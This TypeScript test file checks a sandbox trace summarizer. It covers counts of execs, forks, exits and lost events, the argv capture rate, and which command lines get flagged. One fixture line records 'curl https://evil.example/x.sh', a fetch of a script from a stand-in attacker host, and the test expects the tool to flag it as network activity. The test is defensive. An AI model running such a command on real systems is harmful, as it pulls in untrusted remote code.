import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { formatSummary, summarize } from '../../../src/trace/summary.js';
import type { TraceRecord } from '../../../src/trace/record.js';
import { execEvent } from '../../helpers/fake-tracer.js';

const exit = (pid: number, exitCode: number | null, signal: string | null): TraceRecord => ({
  type: 'exit',
  timestamp: 't',
  sandbox: 'b',
  pid,
  ppid: 1,
  status: 0,
  exitCode,
  signal,
  coreDumped: false,
  command: null,
});

describe('trace summary', () => {
  const records: TraceRecord[] = [
    { type: 'start', timestamp: 't', sandbox: 'b', backend: 'proc-connector', initPid: 1 },
    execEvent(['/bin/sh', '-c', 'x']),
    execEvent(['npm', 'install']),
    execEvent(['curl', 'https://evil.example/x.sh']),
    execEvent(['git', 'commit', '-m', 'wip']),
    execEvent(['/usr/bin/git', 'log']),
    execEvent(null),
    { type: 'fork', timestamp: 't', sandbox: 'b', pid: 3, ppid: 1 },
    exit(3, 0, null),
    exit(4, 1, null),
    exit(5, null, 'SIGKILL'),
    { type: 'lost', timestamp: 't', sandbox: 'b', reason: 'x' },
  ];

  it('counts execs, argv capture, forks, exits, failures and losses', () => {
    const s = summarize(records);
    assert.equal(s.backend, 'proc-connector');
    assert.deepEqual([s.execs, s.execsWithArgv, s.forks, s.exits, s.failures, s.lost], [6, 5, 1, 3, 2, 1]);
    assert.equal(s.argvCaptureRate, 5 / 6);
  });

  it('lists programs by frequency and the flagged command lines', () => {
    const s = summarize(records);
    assert.deepEqual(s.commands[0], { command: 'git', count: 2 });
    assert.deepEqual(s.flagged['git-commit'], { count: 1, examples: ['git commit -m wip'] });
    assert.deepEqual(s.flagged['package-install'].examples, ['npm install']);
    assert.deepEqual(s.flagged.network.examples, ['curl https://evil.example/x.sh']);
  });

  it('says nothing about a capture rate when nothing ran', () => {
    assert.equal(summarize([]).argvCaptureRate, null);
  });

  it('prints a few lines that name what matters, and warns when the record is incomplete', () => {
    const text = formatSummary(summarize(records)).join('\n');
    assert.match(
      text,
      /^trace: 6 execs \(argv captured for 83\.3%\), 1 forks, 3 exits, 2 failed; backend proc-connector/,
    );
    assert.match(text, /INCOMPLETE: events were missed 1 time/);
    assert.match(text, /network x1: curl https:\/\/evil\.example\/x\.sh/);
  });
});
